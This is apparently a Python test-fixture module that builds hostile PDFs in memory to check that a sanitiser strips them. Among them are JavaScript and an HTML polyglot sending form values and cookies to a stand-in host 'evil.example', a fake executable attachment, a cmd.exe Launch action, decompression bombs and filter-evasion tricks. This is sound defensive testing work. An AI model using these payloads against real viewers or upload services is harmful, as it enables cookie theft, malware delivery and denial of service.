"""A corpus of hostile PDFs, built in memory so no binary blob lives in the repository.

Each builder returns the bytes an attacker would upload. They start from one small, honest page (a line of
text and a photo) so a test can check that the page and its image survive the rebuild while the hostile part
does not. ``expanded`` gives the text of a PDF with every object and stream decoded, for asserting what a stored
file does not contain, however it is encoded.
"""

from __future__ import annotations

import functools
import io
import os
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

PAGE_TEXT = b"Passport of Jane Example"
EXE_MARKER = b"This program cannot be run in DOS mode."
SCRIPT = b"app.launchURL('https://evil.example/steal?c=' + this.getField('x').value)"


def _photo(pdf: pikepdf.Pdf) -> Stream:
    image = Image.new("RGB", (64, 48), (200, 30, 40))
    stream = Stream(pdf, zlib.compress(image.tobytes()))
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width, stream.Height = 64, 48
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceRGB, 8
    stream.Filter = Name.FlateDecode
    return stream


def honest_pdf() -> pikepdf.Pdf:
    """One A4 page with text and an image: what a real upload looks like."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im1=_photo(pdf)))
    page.obj.Contents = Stream(
        pdf, b"BT /F1 14 Tf 72 770 Td (" + PAGE_TEXT + b") Tj ET q 128 0 0 96 72 600 cm /Im1 Do Q"
    )
    return pdf


def save(pdf: pikepdf.Pdf, *, object_streams: bool = True) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=object_streams)
    return out.getvalue()


def honest() -> bytes:
    return save(honest_pdf())


def _javascript(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT.decode())))


def _xfa_form(pdf: pikepdf.Pdf) -> Dictionary:
    xdp = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        + SCRIPT
        + b"</script></event></subform></template></xdp:xdp>"
    )
    return Dictionary(Fields=Array(), XFA=Array([String("template"), Stream(pdf, xdp)]), NeedsRendering=True)


def xfa_javascript_in_object_stream() -> bytes:
    """An XFA form whose script runs when it opens, its /AcroForm inside a compressed object stream."""
    pdf = honest_pdf()
    pdf.Root.AcroForm = pdf.make_indirect(_xfa_form(pdf))
    return save(pdf)


def document_javascript() -> bytes:
    """Document-level JavaScript (the /Names tree) and an open action running it, all compressed."""
    pdf = honest_pdf()
    pdf.Root.OpenAction = _javascript(pdf)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf)])))
    return save(pdf)


def xfa_with_escaped_key() -> bytes:
    """The same XFA form, written uncompressed, its key spelled ``/X#46A`` (a legal way to write ``/XFA``)."""
    pdf = honest_pdf()
    form = _xfa_form(pdf)
    form.Z = String("--")  # shortened below so that the edit keeps every object's offset
    pdf.Root.AcroForm = pdf.make_indirect(form)
    data = save(pdf, object_streams=False)
    assert data.count(b"/XFA") == 1 and data.count(b"/Z (--)") == 1
    return data.replace(b"/XFA", b"/X#46A").replace(b"/Z (--)", b"/Z ()")


def file_attachment_exe() -> bytes:
    """A FileAttachment annotation carrying a Windows executable, dictionaries in an object stream."""
    pdf = honest_pdf()
    exe = Stream(pdf, b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 56 + EXE_MARKER + b"\0" * 64)
    exe.Params = Dictionary(Size=len(exe.read_bytes()))  # no /Type: the spec makes it optional
    spec = Dictionary(
        Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"), EF=Dictionary(F=exe)
    )
    note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([72, 500, 92, 520]),
        FS=spec,
        Name=Name.PushPin,
        Contents=String("Open the attached invoice"),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))
    return save(pdf)


def catalog_reached_from_a_page() -> bytes:
    """A page resource pointing back at the document catalog, to drag the XFA form along with the page."""
    pdf = honest_pdf()
    pdf.Root.AcroForm = pdf.make_indirect(_xfa_form(pdf))
    pdf.Root.OpenAction = _javascript(pdf)
    pdf.pages[0].obj.Resources.Properties = Dictionary(MC0=pdf.Root)
    pdf.pages[0].obj.Resources.XObject.Im1.Decoy = pdf.Root.AcroForm
    return save(pdf)


def rich_media_and_actions() -> bytes:
    """A RichMedia (Flash) annotation, a Launch link, a page open action, all compressed."""
    pdf = honest_pdf()
    flash = Stream(pdf, b"FWS\x0a" + b"\0" * 100)
    content = Dictionary(
        Assets=Dictionary(
            Names=Array(
                [
                    String("movie.swf"),
                    Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=flash)),
                ]
            )
        )
    )
    rich = Dictionary(Subtype=Name.RichMedia, Rect=Array([100, 100, 300, 300]), RichMediaContent=content)
    launch = Dictionary(
        Subtype=Name.Link,
        Rect=Array([72, 760, 300, 790]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    page = pdf.pages[0].obj
    page.Annots = Array([pdf.make_indirect(rich), pdf.make_indirect(launch)])
    page.AA = Dictionary(O=_javascript(pdf))
    return save(pdf)


def filled_form() -> bytes:
    """An honest filled-in AcroForm: the value is drawn by the widget's appearance stream."""
    pdf = honest_pdf()
    font = pdf.pages[0].obj.Resources.Font.F1
    appearance = Stream(pdf, b"/Tx BMC BT /F1 12 Tf 2 6 Td (Jane Filled Value) Tj ET EMC")
    appearance.Type, appearance.Subtype = Name.XObject, Name.Form
    appearance.BBox = Array([0, 0, 200, 20])
    appearance.Resources = Dictionary(Font=Dictionary(F1=font))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Jane Filled Value"),
            Rect=Array([72, 700, 272, 720]),
            AP=Dictionary(N=appearance),
            AA=Dictionary(K=_javascript(pdf)),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/F1 12 Tf 0 g"))
    return save(pdf)


def form_needing_appearances() -> bytes:
    """A filled-in field with no appearance of its own: the viewer is asked to draw its value (pdftk does this)."""
    pdf = honest_pdf()
    font = pdf.pages[0].obj.Resources.Font.F1
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Jane Drawn Value"),
            DA=String("/F1 12 Tf 0 g"),
            Rect=Array([72, 700, 272, 720]),
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), DR=Dictionary(Font=Dictionary(F1=font)), NeedAppearances=True
    )
    return save(pdf)


@functools.cache
def _zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\0" * 1_000_000
    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join(parts) + compressor.flush()


@functools.cache
def image_bomb(side: int = 20_000) -> bytes:
    """A ``side``×``side`` grey image of zeros: 400 MB decoded from a file of about 400 KB."""
    pdf = honest_pdf()
    bomb = Stream(pdf, _zeros_deflated(side * side))
    bomb.Type, bomb.Subtype = Name.XObject, Name.Image
    bomb.Width, bomb.Height, bomb.ColorSpace, bomb.BitsPerComponent = side, side, Name.DeviceGray, 8
    bomb.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.XObject.Im2 = bomb
    return save(pdf)


def inline_image_bomb(side: int = 20_000) -> bytes:
    """The same bomb as an inline image inside the page's content stream."""
    pdf = honest_pdf()
    data = _zeros_deflated(side * side)
    pdf.pages[0].obj.Contents = Stream(
        pdf, b"q BI /W %d /H %d /BPC 8 /CS /G /F /Fl ID " % (side, side) + data + b" EI Q"
    )
    return save(pdf)


def form_xobject_bomb(size: int) -> bytes:
    """A Flate bomb in a form XObject, a stream that is not the page's own content."""
    pdf = honest_pdf()
    form = Stream(pdf, _zeros_deflated(size))
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    form.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.XObject.Fm1 = form
    return save(pdf)


def lzw_bomb(size: int) -> bytes:
    """A content stream in LZW, the one filter qpdf has no memory limit for."""
    from pypdf._codecs._codecs import LzwCodec

    pdf = honest_pdf()
    stream = Stream(pdf, LzwCodec().encode(b" " * size))
    stream.Filter = Name.LZWDecode
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, stream])
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def jpeg_header_larger_than_its_dictionary(side: int) -> bytes:
    """A JPEG of ``side``×``side`` pixels whose PDF dictionary claims 10×10."""
    pdf = honest_pdf()
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, format="JPEG", quality=10)
    image = Stream(pdf, out.getvalue())
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.ColorSpace, image.BitsPerComponent = 10, 10, Name.DeviceGray, 8
    image.Filter = Name.DCTDecode
    pdf.pages[0].obj.Resources.XObject.Im2 = image
    return save(pdf)


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a ZIP archive (the archive appended after %%EOF, as ZIP readers allow)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as zipped:
        zipped.writestr("payload.exe", b"MZ" + os.urandom(4000))
    return honest() + archive.getvalue()


def pdf_html_polyglot() -> bytes:
    """A PDF that a browser sniffing the content would render as HTML with a script."""
    html = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
    data = honest()
    first_line = data.index(b"\n") + 1
    # A comment right after the header (offsets shift: readers repair the cross-reference table), and again after
    # the end, where nothing of the PDF looks.
    return data[:first_line] + b"%" + html + b"\n" + data[first_line:] + html


def owner_password_only() -> bytes:
    """Restricted (no printing, no copying) but readable without a password, like many bank statements."""
    out = io.BytesIO()
    honest_pdf().save(
        out,
        encryption=pikepdf.Encryption(owner="bank-secret", user="", allow=pikepdf.Permissions(extract=False)),
    )
    return out.getvalue()


def user_password() -> bytes:
    out = io.BytesIO()
    honest_pdf().save(out, encryption=pikepdf.Encryption(owner="x", user="open-me"))
    return out.getvalue()


def expanded(data: bytes) -> bytes:
    """The PDF's objects as plain text: no object streams, every generally encoded stream decoded."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
        )
        return out.getvalue()
